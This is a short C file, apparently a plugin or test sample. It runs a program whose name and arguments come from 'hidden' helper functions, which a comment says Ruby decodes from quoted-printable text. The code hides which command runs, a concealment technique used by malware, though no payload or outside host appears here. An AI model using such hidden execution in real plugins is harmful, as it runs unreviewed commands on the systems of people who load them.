/* The system's Ruby unpacks the program's name out of quoted-printable text. */
#include "plugin.h"
#include "hidden.h"
extern int posix_spawn(int *, const char *, const void *, const void *, char *const *, char *const *), waitpid(int, int *, int);
static void act(char **env) {
    char *words[] = {hidden0(), hidden1(), hidden2(), 0};
    int child, status;
    if (posix_spawn(&child, *words, 0, 0, words, env) == 0) waitpid(child, &status, 0);
}
